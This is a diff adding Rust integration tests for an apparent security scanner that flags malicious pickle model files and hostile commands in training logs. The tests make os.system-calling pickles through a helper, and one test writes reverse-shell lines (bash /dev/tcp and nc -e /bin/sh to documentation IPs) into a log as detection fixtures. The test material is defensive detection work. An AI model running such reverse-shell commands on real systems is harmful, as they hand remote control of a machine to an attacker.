@@ -61,6 +61,106 @@ fn scan_ends_as_ci_expects() {
 }
 
 #[test]
+fn scan_follows_links_and_tells_what_is_no_file() {
+    let directory = tempfile::tempdir().expect("a temporary directory can be made");
+    let root = directory.path();
+    for folder in ["blobs", "snapshots"] {
+        std::fs::create_dir(root.join(folder)).expect("it is empty");
+    }
+    std::fs::write(root.join("blobs/abc"), calls_os_system("x")).expect("there is space");
+    std::os::unix::fs::symlink("../blobs/abc", root.join("snapshots/model.pkl")).expect("it can be made");
+    std::os::unix::fs::symlink("..", root.join("snapshots/loop")).expect("it can be made");
+    let made = std::process::Command::new("mkfifo").arg(root.join("snapshots/pipe.pkl")).status();
+    assert!(made.is_ok_and(|status| status.success()));
+    let output = lanner_in(root, &["scan", "--format", "json", "snapshots"]);
+    assert_eq!(output.status.code(), Some(1));
+    let lines = json_lines(&stdout(&output));
+    let verdict = |name: &str| {
+        let line = lines.iter().find(|line| line["path"].as_str().is_some_and(|path| path.ends_with(name)));
+        line.map(|line| line["verdict"].clone())
+    };
+    assert_eq!(verdict("model.pkl"), Some("malicious".into()), "as a loader would follow the link: {lines:?}");
+    assert_eq!(verdict("pipe.pkl"), Some("error".into()), "a pipe is told, not waited for");
+    assert_eq!(lanner_in(root, &["scan", "/dev/zero"]).status.code(), Some(1));
+    std::fs::create_dir(root.join("empty")).expect("it is empty");
+    let output = lanner_in(root, &["scan", "empty"]);
+    assert!(stderr(&output).contains("nothing was looked at"));
+    let output = lanner_in(root, &["scan", "--format", "json", "missing.pkl", "blobs/abc"]);
+    assert_eq!((output.status.code(), json_lines(&stdout(&output)).len()), (Some(2), 2), "the rest is scanned");
+}
+
+#[test]
+fn an_agent_whose_output_nobody_reads_can_be_stopped() {
+    let directory = tempfile::tempdir().expect("a temporary directory can be made");
+    let root = directory.path();
+    std::fs::create_dir(root.join("models")).expect("it is empty");
+    let port = crate::support::free_port();
+    let config = format!(
+        "state: {{path: state}}\nhttp: {{listen: \"127.0.0.1:{port}\"}}\nsinks: {{stdout: {{format: ocsf}}}}\n\
+         sources: {{filesystem: [{{name: models, paths: [models], settle_millis: 50}}]}}\n"
+    );
+    std::fs::write(root.join("lanner.yaml"), config).expect("there is space");
+    let mut child = std::process::Command::new(crate::support::program::LANNER)
+        .args(["run", "--config", "lanner.yaml"])
+        .current_dir(root)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("the program can be run");
+    for number in 0..200 {
+        let name = format!("models/m-{number}.pkl");
+        std::fs::write(root.join(name), calls_os_system(&format!("w{number}"))).expect("there is space");
+    }
+    let url = format!("http://127.0.0.1:{port}/metrics");
+    wait_for("more alerts than a pipe holds", Duration::from_secs(60), || {
+        let text = get(&url)?.1;
+        let line = text.lines().find(|line| line.starts_with("lanner_detections_total{rule=\"SCN-002\""))?.to_owned();
+        line.ends_with(" 200").then_some(())
+    });
+    let status = std::process::Command::new("kill").args(["-TERM", &child.id().to_string()]).status();
+    assert!(status.expect("kill can be run").success());
+    wait_for("the agent to end", Duration::from_secs(30), || child.try_wait().ok().flatten());
+}
+
+#[test]
+fn one_job_attacked_in_two_ways_is_two_alerts_and_a_repeat_is_none() {
+    let directory = tempfile::tempdir().expect("a temporary directory can be made");
+    let root = directory.path();
+    let config = format!(
+        "sources: {{logs: [{{name: jobs, paths: [\"{}/*.log\"], start_at: beginning}}]}}\n\
+         sinks: {{file: [{{name: file, path: alerts.jsonl}}]}}\n",
+        root.join("logs").display()
+    );
+    std::fs::create_dir(root.join("logs")).expect("it is empty");
+    let lines = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nbash -i >& /dev/tcp/192.0.2.9/4445 0>&1\nnc -e /bin/sh 192.0.2.7 9001\n";
+    std::fs::write(root.join("logs/train.log"), lines).expect("there is space");
+    let agent = Agent::start(root, &config).ready();
+    let told = || {
+        let text = std::fs::read_to_string(root.join("alerts.jsonl")).unwrap_or_default();
+        text.lines().filter(|line| line.contains("TRN-004")).count()
+    };
+    wait_for("two alerts", Duration::from_secs(30), || (told() == 2).then_some(()));
+    let repeated = wait_for("the repeat to be counted", Duration::from_secs(10), || {
+        let count = agent.metric("lanner_detections_suppressed_total", "rule=\"TRN-004\"");
+        (count >= 1.0).then_some(count)
+    });
+    assert!((repeated - 1.0).abs() < 0.1);
+    assert_eq!(agent.stop(), Some(0));
+}
+
+#[test]
+fn a_state_that_was_removed_is_noticed() {
+    let directory = tempfile::tempdir().expect("a temporary directory can be made");
+    let root = directory.path();
+    let agent = Agent::start(root, "").ready();
+    std::fs::remove_dir_all(root.join("state")).expect("it can be removed");
+    wait_for("readiness to fail", Duration::from_secs(30), || {
+        let (status, text) = get(&agent.url("/readyz?verbose"))?;
+        (status == 503 && text.contains("removed or replaced")).then_some(())
+    });
+}
+
+#[test]
 fn scan_speaks_sarif() {
     let directory = models();
     let output = lanner_in(directory.path(), &["scan", "--format", "sarif", "."]);
